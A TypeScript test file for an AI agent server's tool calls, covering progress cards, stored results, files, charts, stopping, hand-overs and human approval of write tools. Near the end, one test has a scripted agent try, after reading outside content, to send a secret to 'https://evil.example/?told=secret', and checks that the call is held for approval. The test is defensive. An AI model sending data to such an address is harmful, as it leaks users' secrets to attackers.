import { describe, expect, it } from 'vitest';
import { createScripted, type ScriptStep } from '../../agents/providers/scripted.ts';
import { done, toolNamed } from '../../agents/run/loop/testing/loopParts.ts';
import type { Tool } from '../../agents/tools/tool.ts';
import type { Attachment } from '../../shared/attachment.ts';
import type { Chart } from '../../shared/chart.ts';
import { newId } from '../../shared/ids.ts';
import type { Message } from '../../shared/message.ts';
import { isFileOfChat, readNamedFile } from '../store/chatFiles.ts';
import { poolForms } from '../store/testing/poolForms.ts';
import { prepareGround } from './testing/ground.ts';
import { engineWith, type ServerSettings, type TestServer } from './testing/server.ts';
import { joined, messagesOf } from './testing/workspace.ts';

/** Calls what it is told to in its first turn, and ends with the results as it read them. */
const calling =
  (...calls: ScriptStep[]) =>
  (request: { rounds?: readonly { results: readonly { text: string }[] }[] }): ScriptStep[] =>
    request.rounds === undefined
      ? [{ text: 'I look.' }, ...calls]
      : [{ text: `It says: ${request.rounds.flatMap(({ results }) => results.map(({ text }) => text)).join(' | ')}` }];

describe.each(poolForms)('calls, $name', ({ missing, open }) => {
  describe.skipIf(missing !== undefined)(missing ?? 'of an answer', () => {
    const { db, workspace, start } = prepareGround({ open }, ['research', 'coder']);

    async function serve(
      script: Parameters<typeof createScripted>[0],
      tools: readonly Tool[],
      more: Partial<ServerSettings> = {},
    ) {
      const provider = createScripted(script);
      const server = await start({ engine: engineWith(provider, tools), ...more });
      return { server, provider };
    }

    async function answerOf(server: TestServer, text: string): Promise<string> {
      const { answers } = await server.ask(text);
      return answers[0]?.id ?? '';
    }

    const stored = async (id: string): Promise<Message | undefined> =>
      (await messagesOf(db.database, workspace.chatId)).find((message) => message.id === id);

    /** The answer as it is told once a card of it is as wanted. */
    async function told(server: TestServer, id: string, wanted: (message: Message) => boolean): Promise<Message> {
      const find = () =>
        server.told.changes.flatMap(({ messages = [] }) => messages).find((one) => one.id === id && wanted(one));
      await expect.poll(find, { timeout: 10_000 }).toBeDefined();
      return find() as Message;
    }

    it('are shown on its message from their beginning to their end, in their order', async () => {
      const slow = Promise.withResolvers<void>();
      const first = toolNamed('first', async (of, { progress }) => {
        progress(0.5, 'half');
        await slow.promise;
        return done(`first of ${of}`);
      });
      const second = toolNamed('second', () => ({ kind: 'failed', failure: 'unreachable', text: 'Nobody is there.' }));
      const calls = calling({ call: 'first', input: { of: 'a' } }, { call: 'second', input: { of: 'b' } });
      const { server } = await serve(calls, [first, second]);
      const id = await answerOf(server, '@research look');
      const half = await told(server, id, ({ cards = [] }) => cards.some(({ state }) => state === 'failed'));
      expect(half.status).toBe('streaming');
      expect(half.cards?.find(({ tool: name }) => name === 'first')).toMatchObject({ state: 'running', endedAt: null });
      slow.resolve();
      const { text, cards = [] } = await server.ended(id);
      expect(text).toBe('I look.\n\nIt says: first of a | Nobody is there.');
      const shown = cards.toSorted((a, b) => (a.key < b.key ? -1 : 1));
      expect(shown).toMatchObject([
        { tool: 'first', state: 'done', input: '{"of":"a"}', result: 'first of a', failure: null },
        { tool: 'second', state: 'failed', input: '{"of":"b"}', result: 'Nobody is there.', failure: 'unreachable' },
      ]);
      const versions = server.told.changes.map((change) => change.version);
      expect(versions).toEqual(versions.map((_, index) => (versions[0] ?? 0) + index));
      expect(await stored(id)).toMatchObject({ cards, text });
      expect(server.told.states.map(({ state }) => state)).toContain('using');
      const key = cards.find(({ tool: name }) => name === 'first')?.key ?? '';
      const { chatId } = workspace;
      expect(await server.runs.readCall({ chatId, messageId: id, key })).toEqual({
        input: '{"of":"a"}',
        result: 'first of a',
      });
      const elsewhere = server.runs.readCall({ chatId: newId(), messageId: id, key });
      await expect(elsewhere).rejects.toMatchObject({ code: 'not-found' });
    });

    it('hold what no database takes, and only a beginning of what is long', async () => {
      const odd = 'nul \0, half \uD83D, and 🐝';
      const echo = toolNamed('echo', (of) => done(of.repeat(100)));
      const { server } = await serve(calling({ call: 'echo', input: { of: odd } }), [echo]);
      const id = await answerOf(server, '@research echo');
      const { status, cards = [] } = await server.ended(id);
      expect(status).toBe('complete');
      expect(cards).toMatchObject([{ state: 'done' }]);
      expect(cards[0]?.result.length).toBeLessThanOrEqual(600);
      const whole = await server.runs.readCall({ chatId: workspace.chatId, messageId: id, key: cards[0]?.key ?? '' });
      expect(whole.result.length).toBeGreaterThan(600);
    });

    it('bring files, which the answer has, and say which could not be kept', async () => {
      const fileId = newId();
      const file = { fileId, name: 'a.txt', mime: 'text/plain', size: 3, kind: 'text' } as const;
      const bare = { width: null, height: null, durationMs: null, waveform: null, transcript: null };
      const make = toolNamed('make', () => ({
        ...{ kind: 'done', text: 'Made.', fromOutside: false },
        files: ['a.txt', 'b.txt'].map((name) => ({ name, bytes: new Uint8Array(3) })),
      }));
      await db.pool.query(`insert into file (id, "ownerId", name, size, status) values ($1, $2, 'a.txt', 3, 'ready')`, [
        fileId,
        workspace.userId,
      ]);
      const { server } = await serve(calling({ call: 'make', input: { of: '' } }), [make], {
        async keepFiles(ownerId, files) {
          expect(ownerId).toBe(workspace.userId);
          expect(files.map(({ bytes }) => bytes.byteLength)).toEqual([3, 3]);
          return { attachments: [{ ...file, ...bare }], lost: [{ name: 'b.txt', why: 'there is no room.' }] };
        },
      });
      const id = await answerOf(server, '@research make');
      const ended = await server.ended(id);
      expect(ended.attachments).toEqual([{ ...file, ...bare }]);
      expect(ended.text).toContain('Made.\n[b.txt could not be kept: there is no room.]');
      const { rows } = await db.pool.query('select "fileId" from file_use where "messageId" = $1', [id]);
      expect(rows).toEqual([{ fileId }]);
      const { chatId } = workspace;
      expect(await readNamedFile(db.pool, { chatId, name: 'a.txt', mostBytes: 3 })).toEqual({
        ...{ id: fileId, size: 3, sentBy: 'research', sentAt: ended.createdAt },
      });
      expect(await readNamedFile(db.pool, { chatId, name: 'a.txt', mostBytes: 2 })).toBeUndefined();
      expect(await isFileOfChat(db.pool, { chatId, fileId })).toBe(true);
      expect(await isFileOfChat(db.pool, { chatId: newId(), fileId })).toBe(false);
      await server.runs.retry({
        ...{ chatId: workspace.chatId, messageId: id, mode: 'again' },
        askedBy: workspace.userId,
      });
      const again = await told(server, id, ({ epoch }) => epoch === 1);
      expect(again).not.toHaveProperty('cards');
      expect(again).not.toHaveProperty('attachments');
      const before = server.runs.readCall({
        chatId: workspace.chatId,
        messageId: id,
        key: ended.cards?.[0]?.key ?? '',
      });
      await expect(before).rejects.toMatchObject({ code: 'not-found' });
      // Or whoever works on this database next would do it.
      await server.ended(id, 1);
    });

    it('bring charts, which the answer has until it is written anew', async () => {
      const common = { unit: '', xTitle: '', yTitle: '' };
      const chart: Chart = { ...common, title: 'A', kind: 'bar', labels: ['a'], series: [{ name: 'n', values: [1] }] };
      const draw = toolNamed(
        'draw',
        (of) => ({ ...(done('Drawn.') as object), chart: { ...chart, title: of } }) as never,
      );
      const calls = calling({ call: 'draw', input: { of: 'A' } }, { call: 'draw', input: { of: 'B' } });
      const { server } = await serve(calls, [draw]);
      const id = await answerOf(server, '@research draw');
      const { charts = [] } = await server.ended(id);
      expect(charts.toSorted((a, b) => (a.title < b.title ? -1 : 1))).toEqual([chart, { ...chart, title: 'B' }]);
      const { rows } = await db.pool.query<{ result: string }>('select result from tool_call where "messageId" = $1', [
        id,
      ]);
      expect(rows.map(({ result }) => JSON.parse(result) as unknown)).toEqual(
        Array(2).fill({ kind: 'done', text: 'Drawn.', fromOutside: false }),
      );
      await server.runs.retry({
        ...{ chatId: workspace.chatId, messageId: id, mode: 'again' },
        askedBy: workspace.userId,
      });
      expect(await told(server, id, ({ epoch }) => epoch === 1)).not.toHaveProperty('charts');
      await server.ended(id, 1);
    });

    it('bring no more files than an answer can have', async () => {
      const asked: number[] = [];
      const make = toolNamed('make', () => ({
        ...{ kind: 'done', text: 'Made.', fromOutside: false },
        files: Array.from({ length: 20 }, (_, at) => ({ name: `${at}.txt`, bytes: new Uint8Array(1) })),
      }));
      const calls = calling({ call: 'make', input: { of: 'a' } }, { call: 'make', input: { of: 'b' } });
      const bare = { mime: 'text/plain', size: 1, kind: 'text', width: null, height: null } as const;
      const { server } = await serve(calls, [make], {
        async keepFiles(_, files) {
          asked.push(files.length);
          const attachments = files.map(({ name }): Attachment => {
            return { ...bare, fileId: newId(), name, durationMs: null, waveform: null, transcript: null };
          });
          await db.pool.query(
            `insert into file (id, "ownerId", name, size, status) select id, $2, 'x', 1, 'ready' from unnest($1::text[]) as f(id)`,
            [attachments.map(({ fileId }) => fileId), workspace.userId],
          );
          return { attachments, lost: [] };
        },
      });
      const ended = await server.ended(await answerOf(server, '@research make'));
      expect(asked).toEqual([20, 10]);
      expect(ended.attachments).toHaveLength(30);
      expect(ended.text).toContain('[19.txt could not be kept: an answer can have 30 files.]');
    });

    it('end with the answer that is stopped', async () => {
      const wait = toolNamed('wait', (_, { signal }) => {
        return new Promise((resolve) => signal.addEventListener('abort', () => resolve(done('stopped'))));
      });
      const never = toolNamed('never', () => new Promise<never>(() => {}));
      const calls = calling({ call: 'wait', input: { of: '' } }, { call: 'never', input: { of: '' } });
      const { server } = await serve(calls, [wait, never]);
      const id = await answerOf(server, '@research wait');
      await told(server, id, ({ cards = [] }) => cards.length === 2);
      await server.runs.stopAnswer({ chatId: workspace.chatId, messageId: id });
      const { status, cards = [] } = await server.ended(id);
      expect(status).toBe('stopped');
      expect(cards.find(({ tool: name }) => name === 'never')?.state).toBe('stopped');
      expect(cards.filter(({ state }) => state === 'running')).toEqual([]);
    });

    it('keep nothing for an owner that has lost the run', async () => {
      const go = Promise.withResolvers<void>();
      const slow = toolNamed('slow', () => go.promise.then(() => done('too late')));
      const { server } = await serve(calling({ call: 'slow', input: { of: '' } }), [slow]);
      const { answers, runId } = await server.ask('@research slow');
      const id = answers[0]?.id ?? '';
      await told(server, id, ({ cards = [] }) => cards.length === 1);
      await db.pool.query(
        `update run set owner = 'another', epoch = epoch + 1, "leaseUntil" = now() + interval '1 hour' where id = $1`,
        [runId],
      );
      go.resolve();
      await new Promise((resolve) => setTimeout(resolve, 300));
      const { rows } = await db.pool.query<{ state: string }>('select state from tool_call where "messageId" = $1', [
        id,
      ]);
      expect(rows).toEqual([{ state: 'begun' }]);
      expect((await stored(id))?.status).toBe('streaming');
    });

    it('hand a request over to a colleague, whose answer ends the run', async () => {
      const { server } = await serve(({ system }) => {
        const isResearch = system.includes('You are Research');
        const task = 'Write it, nul \0 and half \uD83D';
        return isResearch ? [{ call: 'hand_over', input: { to: 'coder', task } }] : [{ text: 'Written.' }];
      }, []);
      const id = await answerOf(server, '@research go');
      expect(await server.ended(id)).toMatchObject({ status: 'complete', text: '*Coder goes on with this.*' });
      const messages = () => messagesOf(db.database, workspace.chatId);
      await expect
        .poll(async () => (await messages()).map(({ senderId, status, text }) => [senderId, status, text]).slice(1))
        .toEqual([
          ['research', 'complete', '*Coder goes on with this.*'],
          ['coder', 'complete', 'Written.'],
        ]);
      const statuses = async () =>
        (await db.pool.query<{ status: string }>('select status from run where "chatId" = $1', [workspace.chatId]))
          .rows;
      await expect.poll(statuses).toEqual([{ status: 'done' }]);
    });

    describe('that change something', () => {
      async function asking() {
        const write = toolNamed('write', (of) => done(`wrote ${of}`), { effect: 'write' });
        const { server } = await serve(calling({ call: 'write', input: { of: 'x' } }), [write]);
        const id = await answerOf(server, '@research write');
        const { cards = [] } = await told(server, id, ({ cards = [] }) =>
          cards.some((card) => card.state === 'waiting'),
        );
        const { key = '', approval } = cards[0] ?? {};
        const about = { chatId: workspace.chatId, messageId: id, key, hash: approval?.hash ?? '' };
        return { server, write, id, about };
      }

      it('wait until a person allows them, and are done once', async () => {
        const { server, write, id, about } = await asking();
        expect(write.ran).toEqual([]);
        await expect.poll(() => server.told.states.map(({ state }) => state)).toContain('waiting');
        await server.runs.decide(workspace.userId, { ...about, allowed: true, reason: '' });
        const { text, cards = [] } = await server.ended(id);
        expect(text).toContain('It says: wrote x');
        expect(write.ran).toEqual(['x']);
        const decision = { by: workspace.userId, allowed: true, reason: '' };
        expect(cards).toMatchObject([{ state: 'done', approval: { hash: about.hash, tainted: false, decision } }]);
        const twice = server.runs.decide(workspace.userId, { ...about, allowed: false, reason: '' });
        await expect(twice).rejects.toMatchObject({ code: 'conflict', reason: 'call-decided' });
      });

      it('are not done where a person denies them, and the agent reads why', async () => {
        const { server, write, id, about } = await asking();
        await server.runs.decide(workspace.userId, { ...about, allowed: false, reason: 'Not on Sundays.' });
        const { text, cards = [] } = await server.ended(id);
        expect(write.ran).toEqual([]);
        expect(text).toContain('Not on Sundays.');
        expect(cards).toMatchObject([{ state: 'failed', failure: 'not-allowed' }]);
      });

      it('are decided by who asked and by admins, about the very input that is asked for', async () => {
        const { server, write, id, about } = await asking();
        const [ben, admin, stranger] = [await joined(workspace), await joined(workspace, 'admin'), newId()];
        const yes = { ...about, allowed: true, reason: '' };
        await expect(server.runs.decide(ben, yes)).rejects.toMatchObject({ code: 'forbidden' });
        await expect(server.runs.decide(stranger, yes)).rejects.toMatchObject({ code: 'not-found' });
        const other = server.runs.decide(admin, { ...yes, hash: 'another' });
        await expect(other).rejects.toMatchObject({ code: 'conflict', reason: 'call-changed' });
        expect(write.ran).toEqual([]);
        await server.runs.decide(admin, yes);
        await server.ended(id);
        expect(write.ran).toEqual(['x']);
      });

      it('wait in numbers that people can look through', async () => {
        const write = toolNamed('write', (of) => done(`wrote ${of}`), { effect: 'write' });
        const calls = Array.from({ length: 8 }, (_, of) => ({ call: 'write', input: { of: String(of) } }));
        const { server } = await serve(calling(...calls), [write]);
        const ids = await Promise.all(['one', 'two', 'three'].map((what) => answerOf(server, `@research ${what}`)));
        const cardsOf = async () => (await Promise.all(ids.map(stored))).flatMap((message) => message?.cards ?? []);
        await expect.poll(async () => (await cardsOf()).length, { timeout: 10_000 }).toBe(24);
        const states = (await cardsOf()).map(({ state }) => state).toSorted();
        expect(states).toEqual([...Array<string>(8).fill('failed'), ...Array<string>(16).fill('waiting')]);
        await server.runs.stopChat(workspace.chatId);
        expect(write.ran).toEqual([]);
      });

      it('are asked for by whoever goes on with the run, and only once', async () => {
        const { server, id, about } = await asking();
        await server.close();
        const write = toolNamed('write', (of) => done(`wrote ${of}`), { effect: 'write' });
        const { server: next, provider } = await serve(calling(), [write]);
        await next.runs.decide(workspace.userId, { ...about, allowed: true, reason: '' });
        const { text } = await next.ended(id);
        expect(text).toContain('It says: wrote x');
        expect(write.ran).toEqual(['x']);
        expect(provider.calls).toHaveLength(1);
        const { rows } = await db.pool.query('select id from tool_call where "messageId" = $1', [id]);
        expect(rows).toHaveLength(1);
      });

      it('are done as they were meant when people were asked, whoever goes on with the run', async () => {
        let newest = 'first';
        const write = Object.assign(
          toolNamed('write', (of) => done(`wrote ${of}`), { effect: 'write' }),
          {
            fix: async (_: unknown, before: unknown) => ({
              input: (before as { of: string } | null) ?? { of: newest },
            }),
          },
        );
        const { server } = await serve(calling({ call: 'write', input: { of: 'newest' } }), [write]);
        const id = await answerOf(server, '@research write');
        const asked = await told(server, id, ({ cards: [card] = [] }) => card?.state === 'waiting');
        const { key = '', approval, input } = asked.cards?.[0] ?? {};
        expect(input).toBe('{"of":"first"}');
        newest = 'second';
        await server.close();
        const { server: next } = await serve(calling(), [write]);
        const about = { chatId: workspace.chatId, messageId: id, key, hash: approval?.hash ?? '' };
        await next.runs.decide(workspace.userId, { ...about, allowed: true, reason: '' });
        expect(await next.ended(id)).toMatchObject({ cards: [{ state: 'done', input: '{"of":"first"}' }] });
        expect(write.ran).toEqual(['first']);
      });

      it('that were cut off while a person was to answer them say so, and are not done again', async () => {
        const asks = toolNamed(
          'write',
          async (_, { ask, signal }) => {
            const said = await ask?.({ message: 'Which?', fields: [] });
            signal.throwIfAborted();
            return done(JSON.stringify(said));
          },
          { effect: 'write' },
        );
        const { server } = await serve(calling({ call: 'write', input: { of: 'x' } }), [asks]);
        const id = await answerOf(server, '@research write');
        const waiting = await told(server, id, ({ cards: [card] = [] }) => card?.state === 'waiting');
        const { key = '', approval } = waiting.cards?.[0] ?? {};
        const about = { chatId: workspace.chatId, messageId: id, key, hash: approval?.hash ?? '' };
        await server.runs.decide(workspace.userId, { ...about, allowed: true, reason: '' });
        await told(server, id, ({ cards: [card] = [] }) => card?.question !== undefined);
        await server.close();
        const { server: next } = await serve(calling(), [asks]);
        const { text, cards = [] } = await next.ended(id);
        expect(asks.ran).toEqual(['x']);
        expect(text).toContain('waited for an answer of the person');
        expect(cards).toMatchObject([{ state: 'failed', failure: 'unanswered' }]);
        expect(cards[0]).not.toHaveProperty('question');
      });

      it('hold up nobody who wants to end, unless something else is being done for the answer', async () => {
        const go = Promise.withResolvers<void>();
        const read = toolNamed('read', () => go.promise.then(() => done('read')));
        const write = toolNamed('write', (of) => done(`wrote ${of}`), { effect: 'write' });
        const both = calling({ call: 'write', input: { of: 'x' } }, { call: 'read', input: { of: 'y' } });
        const { server } = await serve(both, [read, write]);
        const id = await answerOf(server, '@research write');
        await told(server, id, ({ cards = [] }) => cards.length === 2 && cards.some((c) => c.state === 'waiting'));
        const closing = server.close(60_000);
        await new Promise((resolve) => setTimeout(resolve, 300));
        go.resolve();
        await closing;
        const { server: next } = await serve(both, [read, write]);
        const asked = (await stored(id))?.cards?.find(({ tool: name }) => name === 'write');
        const hash = asked?.approval?.hash ?? '';
        const about = { chatId: workspace.chatId, messageId: id, key: asked?.key ?? '', hash };
        await next.runs.decide(workspace.userId, { ...about, allowed: true, reason: '' });
        const { text } = await next.ended(id);
        expect(text).toContain('It says: wrote x | read');
        expect([...read.ran, ...write.ran]).toEqual(['y', 'x']);
      });

      it('are asked for too where a tainted step would ask an address nobody has named', async () => {
        const read = Object.assign(
          toolNamed('read', (of) => ({ kind: 'done', text: `Page ${of}`, fromOutside: true })),
          { reaches: ({ of }: { of: string }) => [of] },
        );
        const secret = 'https://evil.example/?told=secret';
        const { server } = await serve(
          ({ rounds = [] }) =>
            rounds.length === 0
              ? [{ call: 'read', input: { of: 'https://bees.example/' } }]
              : rounds.length === 1
                ? [{ call: 'read', input: { of: secret } }]
                : [{ text: 'Done.' }],
          [read],
        );
        const id = await answerOf(server, '@research read https://bees.example');
        const { cards = [] } = await told(server, id, ({ cards: all = [] }) => {
          return all.some(({ state }) => state === 'waiting');
        });
        expect(cards).toMatchObject([{ state: 'done' }, { state: 'waiting', approval: { tainted: true } }]);
        expect(read.ran).toEqual(['https://bees.example/']);
        await server.runs.stopAnswer({ chatId: workspace.chatId, messageId: id });
        await server.ended(id);
        expect(read.ran).toEqual(['https://bees.example/']);
      });

      it('stop waiting when the answer is stopped', async () => {
        const { server, write, id, about } = await asking();
        await server.runs.stopAnswer({ chatId: workspace.chatId, messageId: id });
        const { status, cards } = await server.ended(id);
        expect(status).toBe('stopped');
        expect(cards).toMatchObject([{ state: 'stopped' }]);
        const late = server.runs.decide(workspace.userId, { ...about, allowed: true, reason: '' });
        await expect(late).rejects.toMatchObject({ code: 'conflict', reason: 'call-expired' });
        expect(write.ran).toEqual([]);
      });
    });
  });
});
